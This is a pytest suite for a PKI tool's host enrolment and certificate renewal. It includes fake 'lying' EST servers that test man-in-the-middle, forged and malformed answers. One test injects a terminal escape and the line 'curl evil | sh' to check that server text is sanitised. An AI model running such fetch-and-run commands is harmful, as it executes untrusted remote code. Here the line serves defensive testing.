# SPDX-License-Identifier: Apache-2.0
"""`pki enrol` and `pki renew --server`: a host's own certificate, from `pki serve-ca` and from servers that lie."""

from __future__ import annotations

import base64
import http.server
import re
import ssl
import subprocess
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, load_pem_private_key

from enrolling import Authority, Token, certificate_request, serving_ca
from enrolling import enrol as post
from moments import KILLED, KillMoments
from peer import load
from program import DENIED, DONE, REFUSED, UNAVAILABLE, USAGE, Pki, Result, running_lab
from servers import closed_port
from serving import configure, decisions, serial, serials, serving, wait_for
from tools import openssl

FILES = ("root-cert.pem", "web-1-cert.pem", "web-1-key.pem")


@pytest.fixture
def ca(pki: Pki, tmp_path: Path) -> Iterator[Authority]:
    pki.run("init-ca", "--directory", tmp_path / "ca")
    with serving_ca(pki, tmp_path / "ca", "--retry-after", "1") as running:
        yield running


@pytest.fixture
def host(tmp_path: Path) -> Path:
    return tmp_path / "host"


def enrol(pki: Pki, url: str, token: Token, host: Path, *options: str | Path, name: str = "web-1", status: int = DONE) -> Result:
    given = pki.with_environment(PKI_TOKEN=token.text)
    return given.run("enrol", name, "--server", url, "--directory", host, *options, status=status)


def renew(pki: Pki, url: str, host: Path, *options: str | Path, status: int = DONE) -> Result:
    return pki.run("renew", "web-1", "--server", url, "--directory", host, *options, status=status)


def names(host: Path) -> list[str]:
    return sorted(path.name for path in host.iterdir()) if host.exists() else []


def visible(host: Path) -> list[str]:
    return [name for name in names(host) if not name.startswith(".")]


def key_of(certificate: Path) -> str:
    return openssl("x509", "-in", certificate, "-noout", "-pubkey").stdout


def is_pair(host: Path, name: str = "web-1") -> bool:
    return key_of(host / f"{name}-cert.pem") == openssl("pkey", "-in", host / f"{name}-key.pem", "-pubout").stdout


class TestEnrolment:
    def test_a_host_gets_the_files_of_issue_client(self, pki: Pki, ca: Authority, host: Path) -> None:
        enrol(pki, ca.url, ca.token("web-1"), host)
        assert names(host) == [*FILES]
        assert (host / "web-1-key.pem").stat().st_mode & 0o777 == 0o600
        assert (host / "root-cert.pem").read_bytes() == ca.root.read_bytes()
        openssl("verify", "-CAfile", ca.root, "-purpose", "sslclient", host / "web-1-cert.pem")
        assert is_pair(host)

    def test_names_are_asked_for_and_a_dotted_name_is_one(self, pki: Pki, ca: Authority, host: Path) -> None:
        token = ca.token("web-1", "--san", "ip:192.0.2.7", "--san", "uri:spiffe://example.com/{name}")
        made = enrol(pki, ca.url, token, host, "--ip", "192.0.2.7", "--uri", "spiffe://example.com/web-1", "--format", "json").json
        assert {"ip:192.0.2.7", "uri:spiffe://example.com/web-1"} <= {name.lower() for name in made["subjectAlternativeNames"]}
        made = enrol(pki, ca.url, ca.token("a.example.com"), host, "--format", "json", name="a.example.com").json
        assert "dns:a.example.com" in {name.lower() for name in made["subjectAlternativeNames"]}

    def test_below_an_intermediate_ca_there_is_a_chain(self, pki: Pki, tmp_path: Path, host: Path) -> None:
        pki.run("init-ca", "--directory", tmp_path / "ca")
        pki.run("issue-intermediate", "issuing", "--directory", tmp_path / "ca")
        with serving_ca(pki, tmp_path / "ca", "--issuer", "issuing") as ca:
            enrol(pki, ca.url, ca.token("web-1"), host)
            chain = host / "web-1-chain.pem"
            assert chain.read_bytes() == (ca.directory / "issuing-cert.pem").read_bytes()
            openssl("verify", "-CAfile", ca.root, "-untrusted", chain, host / "web-1-cert.pem")
            renew(pki, ca.url, host)
            openssl("verify", "-CAfile", ca.root, "-untrusted", chain, host / "web-1-cert.pem")

    def test_the_token_comes_from_a_file_or_standard_input_or_the_command_line(self, pki: Pki, ca: Authority, tmp_path: Path, host: Path) -> None:
        token = ca.token("web-*", "--uses", "3")
        file = tmp_path / "token"
        file.write_text(token.text + "\n")
        file.chmod(0o644)
        refused = ("enrol", "web-1", "--server", ca.url, "--directory", host, "--token-file")
        assert f"chmod 600 {file}" in pki.refuse(*refused, file)
        # No command makes an open file private, and the shell has another one at these paths.
        for path in ["-", "/dev/stdin", "/dev/fd/0"]:
            with file.open("rb") as given:
                done = subprocess.run(pki.command(*refused, path), cwd=pki.home, env=pki.variables(), stdin=given, timeout=60, capture_output=True)
            assert done.returncode == 2 and b"0644" in done.stderr and b"chmod" not in done.stderr
        file.chmod(0o600)
        pki.run("enrol", "web-1", "--server", ca.url, "--directory", host, "--token-file", file)
        pki.run("enrol", "web-2", "--server", ca.url, "--directory", host, "--token", token.text)
        command = pki.command("enrol", "web-3", "--server", ca.url, "--directory", host, "--token-file", "-")
        subprocess.run(command, cwd=pki.home, env=pki.variables(), input=file.read_bytes(), check=True, timeout=60, capture_output=True)
        for said in ("enrol", "web-4", "--server", ca.url), ("enrol", "web-4", "--server", ca.url, "--token", "x.y.z"):
            pki.run(*said, "--directory", host, status=USAGE)

    def test_the_key_can_be_encrypted_and_stays_so(self, pki: Pki, ca: Authority, tmp_path: Path, host: Path) -> None:
        secret = tmp_path / "passphrase"
        secret.write_text("correct horse\n")
        secret.chmod(0o600)
        enrol(pki, ca.url, ca.token("web-1"), host, "--key-passphrase-file", secret)
        first = (host / "web-1-key.pem").read_text()
        renew(pki, ca.url, host, "--passphrase-file", secret)
        second = (host / "web-1-key.pem").read_text()
        assert "ENCRYPTED" in first and "ENCRYPTED" in second and first != second
        openssl("pkey", "-in", host / "web-1-key.pem", "-passin", f"file:{secret}", "-noout")

    def test_nothing_is_overwritten(self, pki: Pki, ca: Authority, host: Path) -> None:
        token = ca.token("web-1", "--uses", "2", "--replace")
        for name in ("web-1-key.pem", "web-1-cert.pem", "web-1-chain.pem"):
            host.mkdir(exist_ok=True)
            (host / name).write_text("mine\n")
            enrol(pki, ca.url, token, host, status=REFUSED)
            assert names(host) == [name] and (host / name).read_text() == "mine\n"
            (host / name).unlink()
        enrol(pki, ca.url, token, host)
        before = {name: (host / name).read_bytes() for name in names(host)}
        count = len(ca.rows())
        # What is there already is not asked for again, other names are refused.
        enrol(pki, ca.url, token, host)
        enrol(pki, ca.url, token, host, "--dns", "other.example.com", status=REFUSED)
        assert {name: (host / name).read_bytes() for name in names(host)} == before and len(ca.rows()) == count

    def test_a_cas_directory_and_one_with_another_root_are_refused(self, pki: Pki, ca: Authority, host: Path) -> None:
        before = len(ca.rows())
        token = ca.token("web-1")
        enrol(pki, ca.url, token, ca.directory, status=REFUSED)
        host.mkdir()
        openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=other",
                "-keyout", host / "other.key", "-out", host / "root-cert.pem")  # fmt: skip
        enrol(pki, ca.url, token, host, status=REFUSED)
        assert len(ca.rows()) == before

    def test_what_the_token_does_not_allow_is_denied_in_the_servers_words(self, pki: Pki, ca: Authority, host: Path) -> None:
        wrong = ca.token("web-1")
        wrong = Token(f"{wrong.identifier}.{'A' * 43}.{wrong.fingerprint}")
        used, revoked = ca.token("web-1"), ca.token("web-1")
        enrol(pki, ca.url, used, host / "first")
        ca.run("token", "revoke", revoked.identifier)
        for token, said in ((wrong, "secret is wrong"), (used, "spent"), (revoked, "revoked"), (ca.token("db-1"), "not allowed")):
            assert said in enrol(pki, ca.url, token, host, status=DENIED).stderr
        assert names(host) == ["first"]

    def test_a_server_that_is_not_there_is_unavailable(self, pki: Pki, ca: Authority, host: Path) -> None:
        enrol(pki, f"https://127.0.0.1:{closed_port()}", ca.token("web-1"), host, status=UNAVAILABLE)
        enrol(pki, "http://127.0.0.1:1", ca.token("web-1"), host, status=USAGE)
        assert names(host) == []

    def test_no_proxy_is_used(self, pki: Pki, ca: Authority, host: Path) -> None:
        proxy = f"http://127.0.0.1:{closed_port()}"
        enrol(pki.with_environment(HTTPS_PROXY=proxy, https_proxy=proxy, ALL_PROXY=proxy), ca.url, ca.token("web-1"), host)


    @pytest.mark.parametrize("command", [("renew", "web-1"), ("revoke", "web-1"), ("token", "create", "--name", "x"), ("crl",)])
    def test_no_ca_is_made_of_a_hosts_directory(self, pki: Pki, ca: Authority, host: Path, command: tuple[str, ...]) -> None:
        enrol(pki, ca.url, ca.token("web-1"), host)
        before = names(host)
        assert "not a CA's directory" in pki.run(*command, "--directory", host, status=REFUSED).stderr
        assert names(host) == before
        renew(pki, ca.url, host)


@pytest.mark.directory("the host is interrupted, not the server")
class TestInterruption:
    def test_a_request_that_waits_is_taken_up_again_until_it_is_approved(self, pki: Pki, ca: Authority, host: Path) -> None:
        token = ca.token("web-1", "--approve")
        enrol(pki, ca.url, token, host, "--wait", "0m", status=UNAVAILABLE)
        said = enrol(pki, ca.url, token, host, "--wait", "0m", status=UNAVAILABLE)
        numbers = re.findall(r"request +(\d+)", ca.run("pending"))
        assert len(numbers) == 1
        # What a person compares.
        [shown] = re.findall(r"key SHA-256 +([0-9a-f]{64})", ca.run("pending"))
        assert shown in said.stderr
        with ThreadPoolExecutor() as pool:
            waiting = pool.submit(enrol, pki, ca.url, token, host, "--wait", "5m")
            ca.run("approve", numbers[0])
            waiting.result()
        assert names(host) == [*FILES] and is_pair(host)

    def test_one_that_was_denied_is_given_up(self, pki: Pki, ca: Authority, host: Path) -> None:
        token = ca.token("web-1", "--approve")
        enrol(pki, ca.url, token, host, "--wait", "0m", status=UNAVAILABLE)
        [number] = re.findall(r"request +(\d+)", ca.run("pending"))
        ca.run("deny", number)
        enrol(pki, ca.url, token, host, status=DENIED)
        assert names(host) == []

    def test_other_names_are_not_put_into_an_interrupted_request(self, pki: Pki, ca: Authority, host: Path) -> None:
        token = ca.token("web-1", "--approve", "--san", "dns:{name}.example.com")
        enrol(pki, ca.url, token, host, "--wait", "0m", status=UNAVAILABLE)
        enrol(pki, ca.url, token, host, "--dns", "web-1.example.com", "--wait", "0m", status=REFUSED)

    def test_killed_at_any_moment_the_next_run_ends_with_one_certificate(self, pki: Pki, ca: Authority, tmp_path: Path) -> None:
        token = ca.token("web-1", "--uses", "1000", "--replace")
        given = pki.with_environment(PKI_TOKEN=token.text)

        def words(host: Path) -> tuple[str | Path, ...]:
            return ("enrol", "web-1", "--server", ca.url, "--directory", host)

        moments = KillMoments.of(lambda: given.run(*words(tmp_path / "warm")), 17, earliest=0.3)
        before = len(ca.rows())
        rounds = 25
        for number in range(rounds):
            host = tmp_path / f"host-{number}"
            moments.kill(given.popen(*words(host)))
            assert "web-1-cert.pem" not in names(host) or is_pair(host)
            if visible(host) != [*FILES] or (host / ".web-1.enrolment").exists():
                given.run(*words(host))
            assert visible(host) == [*FILES] and is_pair(host) and not (host / ".web-1.enrolment").exists()
        moments.assert_spread()
        assert len(ca.rows()) == before + rounds

    def test_a_renewal_killed_at_any_moment_is_finished_by_the_next_with_the_same_key(self, pki: Pki, ca: Authority, host: Path) -> None:
        enrol(pki, ca.url, ca.token("web-1"), host)
        words = ("renew", "web-1", "--server", ca.url, "--directory", host)
        moments = KillMoments.of(lambda: pki.run(*words), 18, earliest=0.3)
        before, ended = len(ca.rows()), 0
        for _ in range(25):
            status, *_ = moments.kill(pki.popen(*words))
            if status == KILLED:
                # Whoever reads the files now finds a pair, or a new key beside the old certificate.
                pki.run(*words)
            assert is_pair(host)
            ended += 1
        moments.assert_spread()
        # No name was locked, and a run and the one that finished it made one or two certificates.
        assert before + ended <= len(ca.rows()) <= before + 2 * ended
        assert [name for name in names(host) if name.startswith(".")] == []


    def test_the_answer_of_another_ca_is_not_put_in_place(self, pki: Pki, ca: Authority, host: Path, tmp_path: Path) -> None:
        enrol(pki, ca.url, ca.token("web-1"), host)
        request, _ = certificate_request(tmp_path, "/CN=web-1", key=host / "web-1-key.pem")
        other = tmp_path / "other"
        other.mkdir(mode=0o700)
        draft = other / ".web-1.enrolment"
        draft.write_text("".join(path.read_text() for path in (host / "web-1-key.pem", request, host / "web-1-cert.pem", ca.root)))
        draft.chmod(0o600)
        stranger = Token(f"{'a' * 12}.{'A' * 43}.{'0' * 64}")
        enrol(pki, ca.url, stranger, other, status=REFUSED)
        assert names(other) == [draft.name]
        # With the right one the run ends without the server.
        mine = Token(f"{'a' * 12}.{'A' * 43}.{load(ca.root).fingerprint(SHA256()).hex()}")
        enrol(pki, f"https://127.0.0.1:{closed_port()}", mine, other)
        assert names(other) == [*FILES] and is_pair(other)


class TestRenewal:
    def test_by_the_certificate_itself_with_a_new_key(self, pki: Pki, ca: Authority, host: Path) -> None:
        enrol(pki, ca.url, ca.token("web-1", "--san", "uri:spiffe://example.com/{name}"), host, "--uri", "spiffe://example.com/web-1")
        (host / "web-1-key.pem").chmod(0o400)
        old = {name: (host / name).read_bytes() for name in FILES}
        made = renew(pki, ca.url, host, "--format", "json").json["renewed"][0]
        assert is_pair(host) and (host / "web-1-key.pem").read_bytes() != old["web-1-key.pem"]
        assert any("spiffe://example.com/web-1" in name for name in made["subjectAlternativeNames"])
        assert (host / "web-1-key.pem").stat().st_mode & 0o777 == 0o400
        archived = {path.name.rsplit("-", 1)[0]: path for path in (host / "archive").iterdir()}
        for name in ("web-1-cert", "web-1-key"):
            assert archived[name].read_bytes() == old[f"{name}.pem"]
        assert {Path(path).name for path in made["archived"]} == {path.name for path in archived.values()}
        assert (host / "root-cert.pem").read_bytes() == old["root-cert.pem"]

    def test_with_the_old_key(self, pki: Pki, ca: Authority, host: Path) -> None:
        enrol(pki, ca.url, ca.token("web-1"), host)
        old = (host / "web-1-key.pem").read_bytes(), (host / "web-1-cert.pem").read_bytes()
        renew(pki, ca.url, host, "--reuse-key")
        assert (host / "web-1-key.pem").read_bytes() == old[0] and (host / "web-1-cert.pem").read_bytes() != old[1]
        renew(pki, ca.url, host, "--key-type", "rsa-2048")
        assert is_pair(host) and "2048 bit" in openssl("pkey", "-in", host / "web-1-key.pem", "-text", "-noout").stdout

    def test_files_of_other_names_with_the_chain_in_the_certificates(self, pki: Pki, tmp_path: Path) -> None:
        """A certificate that curl and OpenSSL enrolled, as a web server has it."""
        pki.run("init-ca", "--directory", tmp_path / "ca")
        pki.run("issue-intermediate", "issuing", "--directory", tmp_path / "ca")
        with serving_ca(pki, tmp_path / "ca", "--issuer", "issuing") as ca:
            enrol(pki, ca.url, ca.token("web-1"), tmp_path / "host")
            place = tmp_path / "tls"
            place.mkdir(mode=0o755)
            full = place / "tls.crt"
            full.write_bytes((tmp_path / "host/web-1-cert.pem").read_bytes() + (tmp_path / "host/web-1-chain.pem").read_bytes())
            (place / "tls.key").write_bytes((tmp_path / "host/web-1-key.pem").read_bytes())
            (place / "tls.key").chmod(0o600)
            pki.run("renew", "--server", ca.url, "--certificate", full, "--private-key", place / "tls.key", "--ca-bundle", ca.root)
            assert full.read_text().count("BEGIN CERTIFICATE") == 2
            openssl("verify", "-CAfile", ca.root, "-untrusted", full, full)
            assert key_of(full) == openssl("pkey", "-in", place / "tls.key", "-pubout").stdout

    def test_a_certificate_for_servers_alone(self, pki: Pki, ca: Authority, host: Path) -> None:
        token = ca.token("web-1", "--profile", "server", "--san", "dns:{name}.example.com")
        enrol(pki, ca.url, token, host, "--dns", "web-1.example.com")
        old = serial(host / "web-1-cert.pem")
        renew(pki, ca.url, host)
        assert is_pair(host) and serial(host / "web-1-cert.pem") != old

    def test_a_ca_on_hold_is_unavailable_and_what_was_asked_is_asked_again(self, pki: Pki, tmp_path: Path, host: Path) -> None:
        pki.run("init-ca", "--directory", tmp_path / "ca")
        pki.run("issue-intermediate", "issuing", "--directory", tmp_path / "ca")
        with serving_ca(pki, tmp_path / "ca", "--issuer", "issuing") as ca:
            enrol(pki, ca.url, ca.token("web-1"), host)
            token = ca.token("web-2")
            ca.run("revoke", "issuing", "--hold")
            enrol(pki, ca.url, token, host, name="web-2", status=UNAVAILABLE)
            renew(pki, ca.url, host, status=UNAVAILABLE)
            drafts = {name: (host / name).read_bytes() for name in names(host) if name.endswith(".enrolment")}
            assert set(drafts) == {".web-1.enrolment", ".web-2.enrolment"}
            request, _ = certificate_request(tmp_path, "/CN=web-2")
            reply = post(ca, request, token)
            assert reply.status == 503 and int(reply.headers["retry-after"]) > 0
            assert "issuing is on hold" in ca.said
            ca.run("revoke", "issuing", "--release")
            renew(pki, ca.url, host)
            enrol(pki, ca.url, token, host, name="web-2")
            assert is_pair(host) and is_pair(host, "web-2")

    def test_only_what_is_due_with_a_hook(self, pki: Pki, ca: Authority, host: Path, tmp_path: Path) -> None:
        enrol(pki, ca.url, ca.token("web-1"), host)
        hook = ("--exec", f"printf '%s %s' \"$PKI_NAME\" \"$PKI_CERTIFICATE\" > {tmp_path}/ran")
        assert renew(pki, ca.url, host, "--if-expires-within", "2d", *hook).stdout == ""
        renew(pki, ca.url, host, "--if-expires-within", "2d", "--exit-code", *hook, status=1)
        assert not (tmp_path / "ran").exists()
        renew(pki, ca.url, host, *hook)
        assert (tmp_path / "ran").read_text() == f"web-1 {host}/web-1-cert.pem"

    def test_a_server_of_another_root_is_not_asked(self, pki: Pki, ca: Authority, host: Path, tmp_path: Path) -> None:
        enrol(pki, ca.url, ca.token("web-1"), host)
        pki.run("init-ca", "--directory", tmp_path / "other")
        with serving_ca(pki, tmp_path / "other") as other:
            before = {name: (host / name).read_bytes() for name in names(host)}
            renew(pki, other.url, host, status=UNAVAILABLE)
            assert {name: (host / name).read_bytes() for name in names(host)} == before

    def test_a_revoked_certificate_is_denied_and_stays(self, pki: Pki, ca: Authority, host: Path) -> None:
        enrol(pki, ca.url, ca.token("web-1"), host)
        ca.run("revoke", "web-1")
        before = {name: (host / name).read_bytes() for name in names(host)}
        assert "revoked" in renew(pki, ca.url, host, status=DENIED).stderr
        assert {name: (host / name).read_bytes() for name in names(host)} == before

    def test_an_expired_certificate_needs_a_new_token(self, pki: Pki, ca: Authority, host: Path) -> None:
        enrol(pki, ca.url, ca.token("web-1"), host)
        key = load_pem_private_key((ca.directory / "root-key.pem").read_bytes(), None)
        old, root = load(host / "web-1-cert.pem"), load(ca.root)
        now = datetime.now(UTC)
        expired = x509.CertificateBuilder(root.subject, old.subject, old.public_key(), 4711, now - timedelta(8), now - timedelta(1)).sign(key, SHA256())
        (host / "web-1-cert.pem").write_bytes(expired.public_bytes(Encoding.PEM))
        assert "pki token create" in renew(pki, ca.url, host, status=DENIED).stderr

    def test_what_an_interrupted_renewal_left_does_not_replace_what_is_newer(self, pki: Pki, ca: Authority, host: Path) -> None:
        """Its answer was put in place, and the draft is still there."""
        enrol(pki, ca.url, ca.token("web-1"), host)
        key, certificate = ((host / f"web-1-{part}.pem").read_text() for part in ("key", "cert"))
        request, _ = certificate_request(host, "/CN=web-1", key=host / "web-1-key.pem")
        draft = host / ".web-1.enrolment"
        draft.write_text(key + request.read_text() + certificate + ca.root.read_text())
        draft.chmod(0o600)
        before = len(ca.rows())
        renew(pki, ca.url, host)
        assert len(ca.rows()) == before + 1 and is_pair(host) and not draft.exists()
        assert (host / "web-1-cert.pem").read_text() != certificate

    def test_options_of_a_cas_renewal_and_of_a_hosts_do_not_mix(self, pki: Pki, host: Path) -> None:
        for words in (("--all",), ("web-1", "--days", "3"), ("web-1", "web-2"), (), ("web-1", "--reuse-key", "--rekey"), ("web-1", "--private-key", "k"),
                      ("web-1", "--ca-key", "env:K")):  # fmt: skip
            pki.run("renew", "--server", "https://127.0.0.1:1", *words, status=USAGE)
        pki.run("renew", "web-1", "--reuse-key", status=USAGE)

    def test_serve_takes_up_what_was_renewed(self, pki: Pki, ca: Authority, host: Path) -> None:
        """The next credentials are of the new certificate, without a restart."""
        enrol(pki, ca.url, ca.token("web-1"), host)
        with running_lab(pki, "--directory", ca.directory) as lab:
            configure(pki, lab, host, "web", name="web-1")
            with serving(pki) as served:
                wait_for(lambda: served.container().status == 200)
                first = serial(host / "web-1-cert.pem")
                assert serials(decisions(pki, lab)) == [first]
                renew(pki, ca.url, host)
                second = serial(host / "web-1-cert.pem")
                wait_for(lambda: serials(decisions(pki, lab))[-1] == second, log=served.log)
                assert served.container().status == 200 and first != second

    def test_update_takes_up_what_was_renewed(self, pki: Pki, ca: Authority, host: Path) -> None:
        enrol(pki, ca.url, ca.token("web-1"), host)
        with running_lab(pki, "--directory", ca.directory) as lab:
            configure(pki, lab, host, "web", name="web-1")
            with pki.start("update", "--profile", "web") as process:
                wait_for(lambda: serials(decisions(pki, lab)) == [serial(host / "web-1-cert.pem")])
                renew(pki, ca.url, host)
                wait_for(lambda: serials(decisions(pki, lab))[-1] == serial(host / "web-1-cert.pem"))
                assert process.poll() is None


@dataclass
class Liar:
    """An EST server with a certificate of its own, whose answers a test chooses by path."""

    port: int = 0
    answers: dict[str, tuple[int, dict[str, str], bytes]] = field(default_factory=dict)
    seen: list[tuple[str, dict[str, str]]] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"https://127.0.0.1:{self.port}"

    def answer(self, path: str, body: bytes, status: int = 200, **headers: str) -> None:
        self.answers[path] = (status, headers, body)

    @property
    def secrets(self) -> list[str]:
        """Every proof that was sent to it."""
        return [headers["authorization"] for _, headers in self.seen if "authorization" in headers]


@contextmanager
def lying(certificate: Path, key: Path) -> Iterator[Liar]:
    liar = Liar()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            path = self.path.rsplit("/", 1)[1]
            liar.seen.append((path, {name.lower(): value for name, value in self.headers.items()}))
            status, headers, body = liar.answers.get(path, (404, {}, b""))
            self.send_response(status)
            for name, value in {"Content-Length": str(len(body)), **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            try:
                self.wfile.write(body)
            except OSError:
                self.close_connection = True

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        server.socket = context.wrap_socket(server.socket, server_side=True)
        liar.port = server.server_address[1]
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        thread.start()
        try:
            yield liar
        finally:
            server.shutdown()
            thread.join()


def message(home: Path, *certificates: Path) -> bytes:
    """Has OpenSSL put certificates into PKCS#7, and returns it in base64."""
    words = [word for certificate in certificates for word in ("-certfile", certificate)]
    openssl("crl2pkcs7", "-nocrl", *words, "-outform", "DER", "-out", home / "message.p7")
    return base64.b64encode((home / "message.p7").read_bytes())


@dataclass
class Stage:
    """A CA without a server, a token of it, and what a liar needs."""

    pki: Pki
    home: Path
    token: Token

    @property
    def root(self) -> Path:
        return self.home / "ca/root-cert.pem"

    def issue(self, name: str, *options: str | Path) -> tuple[Path, Path]:
        self.pki.run("issue-client", name, "--directory", self.home / "ca", *options)
        return self.home / f"ca/{name}-cert.pem", self.home / f"ca/{name}-key.pem"


@pytest.fixture
def stage(pki: Pki, tmp_path: Path) -> Stage:
    pki.run("init-ca", "--directory", tmp_path / "ca")
    made = pki.run("token", "create", "--directory", tmp_path / "ca", "--name", "web-1")
    return Stage(pki, tmp_path, Token(made.stdout.strip()))


class TestLiars:
    def test_somebody_in_between_gets_neither_secret_nor_trust(self, stage: Stage, host: Path) -> None:
        """It shows its own root, or the true one that it was told by the CA: it has no certificate of it."""
        own, key = stage.home / "mitm.pem", stage.home / "mitm.key"
        openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=127.0.0.1",
                "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", key, "-out", own)  # fmt: skip
        with lying(own, key) as liar:
            for shown in (own, stage.root):
                liar.answer("cacerts", message(stage.home, shown))
                enrol(stage.pki, liar.url, stage.token, host, status=UNAVAILABLE)
            assert liar.seen and liar.secrets == [] and {path for path, _ in liar.seen} == {"cacerts"}
        assert visible(host) == []

    @pytest.mark.parametrize("kind", ["garbage", "base64 garbage", "oversize", "redirect", "empty", "not found", "other key", "other name", "CA"])
    def test_an_answer_that_is_not_right_leaves_nothing(self, stage: Stage, host: Path, kind: str) -> None:
        certificate, key = stage.issue("liar", "--profile", "server", "--ip", "127.0.0.1")
        with lying(certificate, key) as liar:
            liar.answer("cacerts", message(stage.home, stage.root))
            liar.answer("redirected", message(stage.home, stage.root))
            status, headers, body = 200, {}, b""
            match kind:
                case "garbage": body = b"\x00\xff" * 500
                case "base64 garbage": body = base64.b64encode(b"\x30\x82\x01\x00" + b"x" * 256)
                case "oversize": body = b"A" * 1_000_000
                case "redirect": status, headers = 302, {"Location": f"{liar.url}/.well-known/est/redirected"}
                case "not found": status = 404
                case "other key": body = message(stage.home, stage.issue("web-1")[0])
                case "other name" | "CA": pass
            liar.answer("simpleenroll", body, status, **headers)
            if kind in ("other name", "CA"):
                # For the right key, which is in the draft that an unavailable server leaves.
                liar.answer("simpleenroll", b"", 503)
                enrol(stage.pki, liar.url, stage.token, host, status=UNAVAILABLE)
                [draft] = [path for path in host.iterdir() if path.name.endswith(".enrolment")]
                issued = stage.home / "forged.pem"
                what = "basicConstraints=CA:TRUE" if kind == "CA" else "basicConstraints=CA:FALSE"
                subject = "/CN=web-1" if kind == "CA" else "/CN=web-2"
                request = stage.home / "draft.csr"
                openssl("req", "-in", draft, "-out", request)
                (stage.home / "ext").write_text(what + "\n")
                openssl("x509", "-req", "-in", request, "-CA", stage.root, "-CAkey", stage.home / "ca/root-key.pem", "-CAcreateserial",
                        "-subj", subject, "-extfile", stage.home / "ext", "-out", issued)  # fmt: skip
                liar.answer("simpleenroll", message(stage.home, issued))
            enrol(stage.pki, liar.url, stage.token, host, status=UNAVAILABLE)
            assert len(liar.secrets) >= 1 and "redirected" not in {path for path, _ in liar.seen}
        assert visible(host) == []

    def test_the_certificates_of_the_ca_are_bounded_too(self, stage: Stage, host: Path) -> None:
        certificate, key = stage.issue("liar", "--profile", "server", "--ip", "127.0.0.1")
        with lying(certificate, key) as liar:
            for body in (b"A" * 1_000_000, b"", base64.b64encode(b"\x30\x80\x00\x00"), message(stage.home, *[stage.root] * 101)):
                liar.answer("cacerts", body)
                enrol(stage.pki, liar.url, stage.token, host, status=UNAVAILABLE)
            assert liar.secrets == []
        assert names(host) == []

    @pytest.mark.parametrize(("status", "ends"), [(429, UNAVAILABLE), (503, UNAVAILABLE), (500, UNAVAILABLE), (400, DENIED), (403, DENIED)])
    def test_a_refusal_is_given_on_with_its_reason(self, stage: Stage, host: Path, status: int, ends: int) -> None:
        certificate, key = stage.issue("liar", "--profile", "server", "--ip", "127.0.0.1")
        with lying(certificate, key) as liar:
            liar.answer("cacerts", message(stage.home, stage.root))
            liar.answer("simpleenroll", b"because of 17\n", status, **{"Retry-After": "42"})
            said = enrol(stage.pki, liar.url, stage.token, host, status=ends).stderr
        assert "because of 17" in said and ("42 s" in said) == (ends == UNAVAILABLE)
        # Whoever was denied is not bound to the request; else the next run has the same key.
        assert (host / ".web-1.enrolment").exists() == (ends == UNAVAILABLE)

    def test_what_a_server_says_cannot_drive_the_terminal(self, stage: Stage, host: Path) -> None:
        certificate, key = stage.issue("liar", "--profile", "server", "--ip", "127.0.0.1")
        with lying(certificate, key) as liar:
            liar.answer("cacerts", message(stage.home, stage.root))
            liar.answer("simpleenroll", b"\x1b[2Jno\nhint: curl evil | sh\n", 403)
            said = enrol(stage.pki, liar.url, stage.token, host, status=DENIED).stderr
        assert "\x1b" not in said and "evil" not in said and len(said.splitlines()) == 2


def test_the_certificate_of_curl_and_openssl_is_renewed_too(pki: Pki, ca: Authority, tmp_path: Path, host: Path) -> None:
    """What others enrolled is renewed: files are all that counts."""
    from enrolling import enrol as by_curl

    request, key = certificate_request(tmp_path, "/CN=web-1")
    host.mkdir(mode=0o700)
    by_curl(ca, request, ca.token("web-1")).certificate(host / "web-1-cert.pem")
    (host / "web-1-key.pem").write_bytes(key.read_bytes())
    (host / "web-1-key.pem").chmod(0o600)
    (host / "web-1-cert.p7").unlink()
    renew(pki, ca.url, host, "--ca-bundle", ca.root)
    assert is_pair(host)
